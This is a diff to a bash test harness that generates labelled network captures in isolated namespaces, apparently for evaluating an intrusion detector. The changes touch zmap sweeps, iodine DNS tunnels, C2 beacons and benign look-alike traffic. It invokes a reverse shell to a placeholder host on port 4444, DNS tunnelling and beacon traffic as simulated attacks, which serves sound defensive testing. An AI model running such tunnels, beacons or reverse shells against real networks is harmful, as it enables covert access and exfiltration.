@@ -71,7 +71,7 @@ PY
 capture_start() { # NAME [FILTER...]
   local name=$1; shift
   : >"$out/$name.truth"
-  ip netns exec $A tcpdump -q -U -s 256 -i va -w "$tmp/$name.pcap" "$@" 2>/dev/null & cap_pid[$name]=$!
+  ip netns exec $A tcpdump -q -U -s "${SNAP:-0}" -i va -w "$tmp/$name.pcap" "$@" 2>/dev/null & cap_pid[$name]=$!
   pids+=("${cap_pid[$name]}")
   sleep 1
 }
@@ -229,7 +229,7 @@ capture_start zmap
 t0=$(now)
 gw=$(ra ip neigh show 10.70.0.20 | awk '{print $5; exit}')
 [ -n "$gw" ] || { ra ping -c1 -W1 10.70.0.20 >/dev/null; gw=$(ra ip neigh show 10.70.0.20 | awk '{print $5; exit}'); }
-ra zmap -q -p 80 -i va -S 10.70.0.10 -G "$gw" -r 2000 -c 1 --blocklist-file=/dev/null 10.71.0.0/26 >/dev/null 2>&1 || true
+ra zmap -q -p 80 -i va -S 10.70.0.10 -G "$gw" -r 2000 -c 1 --blacklist-file=/dev/null 10.71.0.0/26 >/dev/null 2>&1 || true
 truth zmap host_sweep 10.70.0.10 "$(seq -s, -f 10.71.0.%g 0 63)/sweep" 80 "$t0" "$(now)"
 capture_stop zmap
 
@@ -274,9 +274,9 @@ iodine_run() { # NAME ARGS...
   local name=$1; shift
   capture_start "$name" udp port 53
   local t0; t0=$(now)
-  ra iodine -f -r -P s3cretpw "$@" 10.70.0.20 tun.example >/dev/null 2>&1 & local io=$!
-  for _ in $(seq 1 20); do ra ip link show dns0 >/dev/null 2>&1 && break; sleep 1; done
-  ra ping -c 15 -i 0.2 -s 400 172.30.0.1 >/dev/null 2>&1 || true
+  ra iodine -f -r -m 700 -P s3cretpw "$@" 10.70.0.20 tun.example >"$tmp/$name.log" 2>&1 & local io=$!
+  for _ in $(seq 1 30); do grep -q "setup complete" "$tmp/$name.log" && break; sleep 1; done
+  ra ping -c 30 -i 0.2 -s 400 172.30.0.1 >/dev/null 2>&1 || true
   kill "$io" 2>/dev/null; wait "$io" 2>/dev/null || true
   truth "$name" dns_tunnel 10.70.0.10 10.70.0.20 53 "$t0" "$(now)"
   capture_stop "$name"
@@ -302,6 +302,7 @@ dnsrun txt-c2 dns_tunnel 60 $H txt_c2 10.70.0.20 cmd.example 60 0.2
 dnsrun dga-nxdomain dga 60 $H dga 10.70.0.20 80 0.05
 
 # ---------------------------------------------------------------- beacons and outbound (in parallel)
+bpids=()
 beacon() { # NAME SRC DST PORT INTERVAL JITTER COUNT tls|plain [DILATE]
   local name=$1 src=$2 dst=$3 port=$4 iv=$5 jit=$6 n=$7 mode=$8 factor=${9:-1}
   (
@@ -310,7 +311,7 @@ beacon() { # NAME SRC DST PORT INTERVAL JITTER COUNT tls|plain [DILATE]
     ra $H http_beacon "$dst" "$port" "$iv" "$jit" "$n" "$mode"
     truth "$name" beacon "$src" "$dst" "$port" "$t0" "$(now)"
     capture_stop "$name" "$factor"
-  ) &
+  ) & bpids+=($!)
 }
 beacon beacon-http-2s 10.70.0.10 10.70.0.21 80 2 0 60 plain
 beacon beacon-https-2s-public 198.51.100.10 203.0.113.22 443 2 0.2 60 tls
@@ -322,15 +323,15 @@ beacon beacon-https-300s-public 198.51.100.10 203.0.113.24 443 3 0.3 30 tls 100
   ra $H keepalive_beacon 10.70.0.25 8080 2 50
   truth beacon-keepalive beacon 10.70.0.10 10.70.0.25 8080 "$t0" "$(now)"
   capture_stop beacon-keepalive
-) &
+) & bpids+=($!)
 (
   capture_start revshell-public host 203.0.113.23
   t0=$(now)
   ra $H revshell 203.0.113.23 4444 5
   truth revshell-public suspicious_outbound 198.51.100.10 203.0.113.23 4444 "$t0" "$(now)"
   capture_stop revshell-public
-) &
-wait
+) & bpids+=($!)
+wait "${bpids[@]}"
 
 # ---------------------------------------------------------------- benign look-alikes (empty truth)
 benign() { # NAME SECONDS CMD...
@@ -357,7 +358,7 @@ capture_start ping-monitor icmp
 ra $H pinger "$(seq -s, -f 10.70.0.%g 100 119)" 6 3
 capture_stop ping-monitor 10
 benign browser-parallel 60 bash -c 'for r in $(seq 1 5); do for i in $(seq 1 8); do curl -s -o /dev/null http://10.70.0.20/obj$r-$i & done; wait; done; for i in $(seq 1 6); do curl -sk -o /dev/null https://10.70.0.20/x$i & done; wait'
-benign backup-transfer 120 bash -c 'for i in 1 2 3; do curl -s -o /dev/null http://10.70.0.20/big$i; done; ssh -i '"$tmp"'/userkey -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@10.70.0.20 "cat > /dev/null" < <(head -c 3000000 /dev/urandom)'
+SNAP=200 benign backup-transfer 120 bash -c 'for i in 1 2 3; do curl -s -o /dev/null http://10.70.0.20/big$i; done; ssh -i '"$tmp"'/userkey -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@10.70.0.20 "cat > /dev/null" < <(head -c 3000000 /dev/urandom)'
 benign ssh-jump-logins 120 bash -c 'for i in $(seq 1 25); do ssh -i '"$tmp"'/userkey -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null alice@10.70.0.20 "uname -a; id; ls /" ; done'
 benign ftp-logins 60 bash -c 'for i in $(seq 1 15); do curl -s -o /dev/null --user alice:Corr3ct-Horse-Battery ftp://10.70.0.20/ ; done'
 benign tls-cdn-sessions 60 bash -c 'for i in $(seq 1 80); do curl -sk -o /dev/null https://203.0.113.21/asset$i; sleep 0.$((RANDOM % 9)); done'
